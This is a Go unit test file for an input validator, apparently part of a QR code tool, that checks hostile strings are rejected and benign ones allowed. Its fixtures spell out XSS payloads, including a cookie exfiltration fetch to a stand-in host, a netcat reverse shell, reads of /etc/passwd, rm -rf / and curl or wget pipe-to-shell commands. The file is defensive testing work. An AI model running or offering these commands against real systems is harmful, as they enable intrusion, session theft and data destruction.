package validation

import (
	"errors"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	vqerrors "github.com/conneroisu/virsqr/internal/errors"
)

func TestValidateDefaultRules(t *testing.T) {
	tests := []struct {
		name     string
		data     string
		rule     string
		category string
	}{
		{"oversize", strings.Repeat("a", MaxPayloadLength+1), "max-length", "oversize"},
		{"javascript uri", "javascript:alert(1)", "script-uri", "script-uri"},
		{"vbscript uri", "VBScript:MsgBox(1)", "script-uri", "script-uri"},
		{"data html uri", "data:text/html,<b>x</b>", "data-html-uri", "script-uri"},
		{"data svg uri", "data:image/svg+xml;base64,AAAA", "data-html-uri", "script-uri"},
		{"script tag", "<script>alert(1)</script>", "script-tag", "markup-injection"},
		{"script tag with space", "< script src=x>", "script-tag", "markup-injection"},
		{"iframe", `<iframe src="https://evil.example">`, "active-markup-tag", "markup-injection"},
		{"img onerror", "<img src=x onerror=alert(1)>", "active-markup-tag", "markup-injection"},
		{"event handler", `" onmouseover="alert(1)`, "event-handler", "event-handler"},
		{"css expression", "width: expression(alert(1))", "css-expression", "xss"},
		{"moz binding", "-moz-binding:url(x)", "css-expression", "xss"},
		{"document cookie", "fetch('//x/?c='+document.cookie)", "dom-sink", "xss"},
		{"eval", "eval(atob('YQ=='))", "dom-sink", "xss"},
		{"cmd exe", "start cmd.exe /c calc", "shell-binary", "command-injection"},
		{"powershell", "powershell.exe -enc AAAA", "shell-binary", "command-injection"},
		{"bin sh", "nc -e /bin/sh 10.0.0.1 4444", "shell-binary", "command-injection"},
		{"passwd", "cat /etc/passwd", "sensitive-path", "path-disclosure"},
		{"shadow", "/etc/shadow", "sensitive-path", "path-disclosure"},
		{"rm rf", "rm -rf /", "destructive-command", "command-injection"},
		{"rm fr", "rm -fr ~", "destructive-command", "command-injection"},
		{"curl pipe sh", "curl https://x.example/i.sh | sh", "pipe-to-shell", "command-injection"},
		{"wget pipe sudo bash", "wget -qO- https://x.example | sudo bash", "pipe-to-shell", "command-injection"},
		{"tab before handler", "<a\tonclick=alert(1)>x</a>", "event-handler", "event-handler"},
		{"newline before handler", "<a\nonmouseover=alert(1)>x</a>", "event-handler", "event-handler"},
		{"handler in query", "https://x.example/?a=1&onload=alert(1)", "event-handler", "event-handler"},
		{"handler after comma", "x,onclick=alert(1)", "event-handler", "event-handler"},
		{"handler after paren", "f(onerror=alert(1))", "event-handler", "event-handler"},
		{"tab in rm", "rm\t-rf /", "destructive-command", "command-injection"},
		{"newline in rm", "rm\n-rf /", "destructive-command", "command-injection"},
		{"tab in curl pipe", "curl\thttp://evil.sh | sh", "pipe-to-shell", "command-injection"},
		{"vertical tab in curl pipe", "curl\vhttp://evil.sh |\vsh", "pipe-to-shell", "command-injection"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			verdict := Validate(tt.data)
			require.False(t, verdict.Allowed, "expected rejection for %q", tt.data)
			assert.Equal(t, tt.rule, verdict.Rule)
			assert.Equal(t, tt.category, verdict.Category)
			assert.NotEmpty(t, verdict.Reason)
			assert.NotEmpty(t, verdict.Match)
		})
	}
}

func TestValidateEveryCategoryHasARejection(t *testing.T) {
	samples := map[string]string{
		"oversize":          strings.Repeat("x", MaxPayloadLength+1),
		"script-uri":        "javascript:void(0)",
		"markup-injection":  "<script>",
		"event-handler":     "<a onclick=steal()>",
		"xss":               "document.write('x')",
		"command-injection": "rm -rf /tmp",
		"path-disclosure":   "/etc/passwd",
	}

	seen := map[string]bool{}
	for _, rule := range DefaultRules() {
		seen[rule.Category] = true
	}
	for category := range seen {
		sample, ok := samples[category]
		require.True(t, ok, "no sample for category %s", category)
		assert.Equal(t, category, Validate(sample).Category, "sample %q", sample)
	}
}

func TestValidateAllowed(t *testing.T) {
	allowed := []string{
		"",
		"https://example.com/?utm_source=qr&one=1",
		"https://example.com/?online=1&onset=2,one=3",
		"Meet at the pavilion\non=time",
		"WIFI:T:WPA;S:home;P:secret;;",
		"BEGIN:VCARD\nVERSION:3.0\nFN:Ada Lovelace\nEND:VCARD",
		"geo:52.52,13.405?q=Berlin",
		"otpauth://totp/Example:alice?secret=JBSWY3DPEHPK3PXP&digits=6&period=30",
		"The expression of joy",
		strings.Repeat("a", MaxPayloadLength),
		EICAR,
	}

	for _, data := range allowed {
		t.Run(data[:min(len(data), 20)], func(t *testing.T) {
			assert.True(t, Validate(data).Allowed, "expected %q to be allowed", data)
		})
	}
}

func TestEICARDoesNotMatchAnyRule(t *testing.T) {
	normalized := Normalize(EICAR)
	for _, rule := range DefaultRules() {
		input := normalized
		if rule.Raw {
			input = EICAR
		}
		_, matched := rule.Match(input)
		assert.False(t, matched, "EICAR matched rule %s", rule.Name)
	}
}

func TestNormalizationDefeatsObfuscation(t *testing.T) {
	tests := []struct {
		name string
		data string
	}{
		{"upper case", "JAVASCRIPT:alert(1)"},
		{"fullwidth", "ｊａｖａｓｃｒｉｐｔ:alert(1)"},
		{"zero width split", "java\u200bscript:alert(1)"},
		{"tab split", "java\tscript:alert(1)"},
		{"newline split", "java\nscript:alert(1)"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			verdict := Validate(tt.data)
			assert.False(t, verdict.Allowed)
			assert.Equal(t, "script-uri", verdict.Rule)
		})
	}
}

func TestNormalizeKeepsWordBoundaries(t *testing.T) {
	tests := []struct {
		name string
		data string
		want string
	}{
		{"tab", "rm\t-rf", "rm -rf"},
		{"newline", "a\nb", "a b"},
		{"crlf", "a\r\nb", "a  b"},
		{"no-break space", "a\u00a0b", "a b"},
		{"zero width", "ja\u200bva", "java"},
		{"bell", "a\ab", "ab"},
		{"case", "ExPrEsSiOn(", "expression("},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Equal(t, tt.want, Normalize(tt.data))
		})
	}
}

func TestSubstringRuleReportsInputText(t *testing.T) {
	rule := SubstringRule("css", "xss", "css binding", "expression(", "-moz-binding")

	tests := []struct {
		name  string
		input string
		want  string
		ok    bool
	}{
		{"upper case", "width: EXPRESSION(alert(1))", "EXPRESSION(", true},
		{"mixed case", "-Moz-Binding:url(x)", "-Moz-Binding", true},
		{"lower case", "expression(1)", "expression(", true},
		{"metacharacters are literal", "expressionX", "", false},
		{"absent", "plain text", "", false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			match, ok := rule.Match(tt.input)
			assert.Equal(t, tt.ok, ok)
			assert.Equal(t, tt.want, match)
		})
	}
}

func TestValidateIsDeterministic(t *testing.T) {
	data := "<script>alert(1)</script>"
	first := Validate(data)
	for i := 0; i < 10; i++ {
		assert.Equal(t, first, Validate(data))
	}
}

func TestVerdictErr(t *testing.T) {
	assert.NoError(t, Validate("hello").Err())

	err := Validate("javascript:alert(1)").Err()
	require.Error(t, err)
	assert.True(t, errors.Is(err, vqerrors.ErrPayloadRejected))
	assert.True(t, vqerrors.IsRejection(err))

	var typed *vqerrors.Error
	require.True(t, errors.As(err, &typed))
	assert.Equal(t, "script-uri", typed.Context["rule"])
}

func TestVerdictString(t *testing.T) {
	assert.Equal(t, "allowed", Validate("ok").String())
	assert.Contains(t, Validate("<script>").String(), "script-tag")
}

func TestCustomRules(t *testing.T) {
	v := New(append(DefaultRules(), SubstringRule("no-ftp", "scheme", "ftp not allowed", "FTP://"))...)

	verdict := v.Validate("ftp://files.example")
	assert.False(t, verdict.Allowed)
	assert.Equal(t, "no-ftp", verdict.Rule)

	assert.Len(t, v.Rules(), len(DefaultRules())+1)
}

func TestFirstMatchWins(t *testing.T) {
	v := New(
		SubstringRule("first", "a", "first", "bad"),
		SubstringRule("second", "b", "second", "bad"),
	)

	assert.Equal(t, "first", v.Validate("bad").Rule)
}

func TestRegexRulePanicsOnInvalidPattern(t *testing.T) {
	assert.Panics(t, func() {
		RegexRule("broken", "x", "x", "(")
	})
}

func TestRulesReturnsCopy(t *testing.T) {
	v := New(DefaultRules()...)
	rules := v.Rules()
	rules[0].Name = "changed"
	assert.Equal(t, "max-length", v.Rules()[0].Name)
}

// FuzzValidate checks that validation never panics and is stable.
func FuzzValidate(f *testing.F) {
	f.Add("https://example.com")
	f.Add("javascript:alert('xss')")
	f.Add("data:text/html,<script>alert('xss')</script>")
	f.Add("WIFI:T:WPA;S:x;P:y;;")
	f.Add("curl http://x | sh")
	f.Add(EICAR)
	f.Add("\xff\xfe")
	f.Add("")

	f.Fuzz(func(t *testing.T, data string) {
		if len(data) > 10000 {
			t.Skip("payload too long")
		}

		first := Validate(data)
		second := Validate(data)
		if first != second {
			t.Errorf("Validate not deterministic for %q", data)
		}

		if !first.Allowed && (first.Rule == "" || first.Category == "") {
			t.Errorf("rejection without rule for %q: %+v", data, first)
		}
		if first.Allowed && first.Err() != nil {
			t.Errorf("allowed verdict produced an error for %q", data)
		}
	})
}
